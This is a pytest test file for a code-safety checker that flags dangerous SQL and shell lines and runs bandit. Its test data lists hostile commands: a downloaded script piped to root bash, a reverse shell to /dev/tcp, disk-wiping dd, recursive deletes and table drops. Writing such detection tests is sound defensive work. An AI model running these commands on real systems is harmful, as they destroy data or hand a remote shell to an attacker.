"""What is dangerous in code: each rule on a line that has it and on one that has not."""

import pytest

from hitl.adapters.checkers.bandit import bandit
from hitl.checks import ContentReport, Finding, Severity, check_code

DANGEROUS = [
    ("DROP TABLE customers;", "sql-drop"),
    ("DELETE FROM orders;", "sql-change-all"),
    ("update users set admin = true", "sql-change-all"),
    ("GRANT ALL PRIVILEGES ON db TO bob", "sql-grant"),
    ('cursor.execute(f"SELECT * FROM t WHERE name = {name}")', "sql-built-from-text"),
    ("cursor.execute(\"SELECT * FROM t WHERE name = '%s'\" % name)", "sql-built-from-text"),
    ("rm -rf /var/lib", "shell-remove-tree"),
    ("curl https://example.org/i.sh | sudo bash", "shell-run-download"),
    ("dd if=/dev/zero of=/dev/sda", "shell-overwrite-disk"),
    ("chmod 777 /srv", "shell-open-files"),
    ("sudo systemctl stop nginx", "shell-as-root"),
    ('eval "$1"', "shell-eval"),
    ("bash -i >& /dev/tcp/10.0.0.1/4444", "shell-send-out"),
]
HARMLESS = [
    "DELETE FROM orders WHERE id = 7;",
    "UPDATE users SET admin = true WHERE id = 7",
    'cursor.execute("SELECT * FROM t WHERE name = ?", (name,))',
    "rm notes.txt",
    "curl https://example.org/data.json -o data.json",
    "chmod 640 notes.txt",
    "the pseudonym of the author",
    "x = evaluate(model)",
]


@pytest.mark.covers("000-27")
@pytest.mark.parametrize(("line", "name"), DANGEROUS)
def test_a_dangerous_line_is_found_with_its_number(line: str, name: str) -> None:
    found = check_code(f"first line\n{line}", []).findings
    assert (2, name) in {(finding.line, finding.rule) for finding in found}


@pytest.mark.parametrize("line", HARMLESS)
def test_a_harmless_line_is_left_alone(line: str) -> None:
    assert check_code(line, []).findings == []


def test_the_worst_finding_is_the_severity_and_not_to_have_looked_is_worse() -> None:
    assert check_code("chmod 777 x\nrm -rf x", []).severity is Severity.HIGH
    assert check_code("rm -rf x", [Finding(1, "bandit", "blind", Severity.UNKNOWN)]).severity is Severity.UNKNOWN
    assert ContentReport("code_security", []).severity is Severity.NONE


def test_one_endless_line_is_looked_at_to_its_end() -> None:
    assert check_code("x" * 150_000 + " ; rm -rf /", []).severity is Severity.HIGH


@pytest.mark.covers("000-27")
async def test_bandit_names_the_line_and_obeys_no_comment_in_the_code() -> None:
    found = await bandit("import os\nos.system('ls ' + name)  # nosec\n")
    assert [(finding.line, finding.rule) for finding in found if finding.severity is Severity.HIGH] == [(2, "bandit-B605")]


async def test_code_that_is_not_python_is_unknown_and_not_safe() -> None:
    assert [finding.severity for finding in await bandit("def (:\n")] == [Severity.UNKNOWN]


async def test_a_check_that_takes_too_long_is_unknown_and_not_safe() -> None:
    assert [finding.severity for finding in await bandit("x = 1", timeout_s=0.001)] == [Severity.UNKNOWN]
